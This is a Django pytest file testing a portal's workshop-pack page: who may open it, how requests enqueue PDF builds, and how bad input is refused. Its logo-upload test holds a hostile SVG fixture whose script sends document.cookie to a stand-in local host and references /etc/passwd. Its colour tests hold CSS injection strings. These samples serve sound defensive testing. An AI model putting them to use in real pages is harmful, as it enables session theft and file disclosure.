"""The workshop pack page: who may use it, what it refuses, and how a request becomes a build."""

from __future__ import annotations

import io
import os

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from groups.models import Organisation
from rp_portal.audit.models import AuditEvent
from rp_portal.documents.models import DocumentBuild
from tests.groups.workshop_pack_support import minutes, pack_form
from tests.pdf_support import pdf_reader, stored_pdf


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _url(org) -> str:
    return reverse("groups:workshop_pack", args=[org.pk])


def _post(client, world, **changes):
    return client.post(_url(world.org), pack_form(world.org, **changes))


# --- Who may use it --------------------------------------------------------------------------


def test_it_shows_the_form_with_the_organisations_details_to_a_facilitator(client, world):
    world.org.accent_colour = "#aa3366"
    world.org.save()
    client.force_login(world.facilitator)
    page = client.get(_url(world.org))
    assert page.status_code == 200
    body = page.content.decode()
    assert 'value="Riverside"' in body
    assert 'value="#aa3366"' in body
    assert "Build the pack" in body


def test_it_is_open_to_an_organisation_admin(client, world):
    client.force_login(world.admin)
    assert client.get(_url(world.org)).status_code == 200


@pytest.mark.parametrize("who", ["practitioner", "manager"])
def test_it_is_forbidden_to_people_who_do_not_run_workshops(client, world, who):
    client.force_login(getattr(world, who))
    assert client.get(_url(world.org)).status_code == 403
    assert _post(client, world).status_code == 403
    assert not DocumentBuild.objects.exists()


def test_it_is_a_404_for_someone_from_another_organisation(client, world):
    client.force_login(world.outsider)
    assert client.get(_url(world.org)).status_code == 404
    assert _post(client, world).status_code == 404
    assert not DocumentBuild.objects.exists()


def test_it_sends_an_anonymous_visitor_to_sign_in(client, world):
    response = client.get(_url(world.org))
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_the_organisation_page_links_to_it_for_facilitators_and_admins_only(client, world):
    link = _url(world.org)
    for who, shown in [("facilitator", True), ("admin", True), ("practitioner", False)]:
        client.force_login(getattr(world, who))
        body = client.get(reverse("groups:organisation_detail", args=[world.org.pk])).content
        assert (link in body.decode()) is shown, who


# --- A request only enqueues -----------------------------------------------------------------


def test_a_valid_request_enqueues_a_build_and_shows_its_progress(client, world):
    client.force_login(world.facilitator)
    response = _post(client, world)  # not committed here, so the task has not run
    build = DocumentBuild.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"{_url(world.org)}?build={build.pk}#pack-build"
    assert build.status == DocumentBuild.Status.QUEUED
    assert build.owner == world.facilitator
    assert build.organisation_id == world.org.pk
    assert build.inputs["organisation_id"] == world.org.pk
    assert build.inputs["facilitators"] == ["Fran Okafor", "Sam Lindqvist"]
    assert build.inputs["minutes"]["practice"] == 30
    page = client.get(response["Location"]).content.decode()
    assert f'hx-get="/documents/{build.pk}/"' in page
    assert "Waiting to start" in page
    assert 'role="progressbar"' in page
    assert AuditEvent.objects.filter(action="workshop_pack.request", target_id=build.pk).exists()


def test_the_built_pack_is_offered_for_download_with_each_part_alone(
    client, world, django_capture_on_commit_callbacks
):
    client.force_login(world.facilitator)
    with django_capture_on_commit_callbacks(execute=True):
        response = _post(client, world)
    build = DocumentBuild.objects.get()
    page = client.get(response["Location"]).content.decode()
    assert "Your document is ready." in page
    assert reverse("documents:download", args=[build.pk]) in page
    for part in ["outline", "slides", "handouts", "sign_in", "feedback"]:
        assert f'name="part" value="{part}"' in page
    # The form comes back with the details of the build shown, ready to adjust.
    assert "Fran Okafor\nSam Lindqvist" in page


def test_the_same_details_reuse_the_stored_file(client, world, django_capture_on_commit_callbacks):
    client.force_login(world.facilitator)
    with django_capture_on_commit_callbacks(execute=True):
        first = _post(client, world)
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        again = _post(client, world)
    assert first["Location"] == again["Location"]
    assert callbacks == []  # nothing was enqueued the second time
    assert DocumentBuild.objects.count() == 1


def test_changed_details_or_branding_build_a_new_file(
    client, world, django_capture_on_commit_callbacks
):
    client.force_login(world.facilitator)
    with django_capture_on_commit_callbacks(execute=True):
        _post(client, world)
        _post(client, world, venue="The Library")
    assert DocumentBuild.objects.count() == 2
    Organisation.objects.filter(pk=world.org.pk).update(contact_email="new@example.test")
    with django_capture_on_commit_callbacks(execute=True):
        _post(client, world)
    assert DocumentBuild.objects.count() == 3


def test_a_part_is_built_alone_with_the_same_details(
    client, world, django_capture_on_commit_callbacks
):
    client.force_login(world.facilitator)
    with django_capture_on_commit_callbacks(execute=True):
        _post(client, world)
    pack = DocumentBuild.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(_url(world.org), {"build": pack.pk, "part": "sign_in"})
    alone = DocumentBuild.objects.exclude(pk=pack.pk).get()
    assert response["Location"] == f"{_url(world.org)}?build={alone.pk}#pack-build"
    assert alone.inputs == {**pack.inputs, "parts": ["sign_in"]}
    assert alone.filename.startswith("sign-in-sheet-riverside-")
    assert len(pdf_reader(stored_pdf(alone)).pages) == 1


def test_a_part_that_is_not_in_the_pack_is_refused(
    client, world, django_capture_on_commit_callbacks
):
    client.force_login(world.facilitator)
    with django_capture_on_commit_callbacks(execute=True):
        _post(client, world, parts=["outline"])
    pack = DocumentBuild.objects.get()
    response = client.post(_url(world.org), {"build": pack.pk, "part": "slides"}, follow=True)
    assert "That part is not in this pack." in response.content.decode()
    assert DocumentBuild.objects.count() == 1


def test_someone_elses_build_is_not_shown_or_reused(client, world):
    client.force_login(world.admin)
    _post(client, world)
    theirs = DocumentBuild.objects.get()
    client.force_login(world.facilitator)
    assert client.get(f"{_url(world.org)}?build={theirs.pk}").status_code == 404
    assert client.get(f"{_url(world.org)}?build=nonsense").status_code == 404
    assert client.post(_url(world.org), {"build": theirs.pk, "part": "slides"}).status_code == 404
    assert DocumentBuild.objects.count() == 1


# --- Bad input: a clear message, and nothing built -------------------------------------------


def _refused(client, world, message: str, **changes) -> None:
    client.force_login(world.facilitator)
    response = _post(client, world, **changes)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not DocumentBuild.objects.exists()


@pytest.mark.parametrize(
    "colour",
    ["red", "#12345", "#1234567", "#zzzzzz", "url(http://127.0.0.1/x.png)", "#123456;}body{"],
)
def test_a_colour_that_is_not_a_colour_is_refused(client, world, colour):
    _refused(client, world, "Use a colour like #0f5161.", accent_colour=colour)


def test_html_in_a_name_is_refused_with_a_clear_message(client, world):
    _refused(client, world, "no &lt; or &gt; signs", facilitator_names="Fran\n<b>Sam</b>")
    _refused(client, world, "no &lt; or &gt; signs", organisation_name="<i>Riverside</i>")


def test_missing_or_too_many_facilitators_are_refused(client, world):
    _refused(client, world, "Name at least one facilitator.", facilitator_names="\n \n")
    _refused(client, world, "Name up to six facilitators", facilitator_names="\n".join("ABCDEFG"))


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        (minutes(practice=0, welcome=40), "Give each activity at least 1 minute."),
        (minutes(practice=500), "No single activity can take more than 180 minutes."),
        (minutes(practice=-30, welcome=70), "Give each activity at least 1 minute."),
        (minutes(practice="half an hour"), "Enter a whole number of minutes."),
        (
            minutes(practice=31),
            "The activities add up to 121 minutes, but a 2-hour workshop is 120 minutes.",
        ),
        # The length changed to 3 hours but the timings are still those of a 2-hour workshop.
        ({**minutes(120), "length": "180"}, "add up to 120 minutes, but a 3-hour workshop is 180"),
        ({"length": "90"}, "Select a valid choice."),
        ({"start_time": "22:30"}, "The workshop would end after midnight."),
        ({"workshop_date": "1901-01-01"}, "Choose a date between"),
        ({"workshop_date": "3026-01-01"}, "Choose a date between"),
        ({"participants": "0"}, "Expect at least 1 participant."),
        ({"participants": "5000"}, "The pack is made for up to 200 participants."),
        ({"parts": []}, "Choose at least one part of the pack."),
        (
            {"participants": "61", "per_participant": "on"},
            "A set for each participant is available for up to 60 people.",
        ),
        ({"reflective_model": "made-up"}, "Select a valid choice."),
        ({"venue": "x" * 201}, "at most 200 characters"),
    ],
)
def test_absurd_input_is_refused_with_a_clear_message(client, world, changes, message):
    _refused(client, world, message, **changes)


def test_three_hour_timings_are_accepted(client, world):
    client.force_login(world.facilitator)
    response = _post(client, world, length="180", **minutes(180))
    assert response.status_code == 302
    assert DocumentBuild.objects.get().inputs["length"] == 180


# --- The logo the pack uses is checked where it is uploaded ---------------------------------

SVG_WITH_SCRIPT = b"""<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
<script>fetch('http://127.0.0.1:9/steal?'+document.cookie)</script>
<image href="file:///etc/passwd"/></svg>"""


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("logo.svg", SVG_WITH_SCRIPT, "image/svg+xml"),
        ("logo.png", SVG_WITH_SCRIPT, "image/png"),  # an SVG pretending to be a PNG
        ("logo.png", b"just some text, not an image", "image/png"),
    ],
)
def test_a_logo_that_is_not_a_png_or_jpeg_image_is_refused(
    client, world, name, content, content_type
):
    client.force_login(world.admin)
    response = client.post(
        reverse("groups:organisation_edit", args=[world.org.pk]),
        {
            "name": "Riverside",
            "accent_colour": "#0f5161",
            "logo": SimpleUploadedFile(name, content, content_type=content_type),
        },
    )
    assert response.status_code == 200
    assert "Upload a valid image" in response.content.decode()
    world.org.refresh_from_db()
    assert not world.org.logo


def test_a_logo_over_one_megabyte_is_refused(client, world):
    client.force_login(world.admin)
    noise = Image.frombytes("RGB", (700, 700), os.urandom(700 * 700 * 3))
    buffer = io.BytesIO()
    noise.save(buffer, format="PNG")
    big = buffer.getvalue()
    assert len(big) > 1_000_000
    response = client.post(
        reverse("groups:organisation_edit", args=[world.org.pk]),
        {
            "name": "Riverside",
            "accent_colour": "#0f5161",
            "logo": SimpleUploadedFile("big.png", big, content_type="image/png"),
        },
    )
    assert "larger than 1 MB" in response.content.decode()
    world.org.refresh_from_db()
    assert not world.org.logo
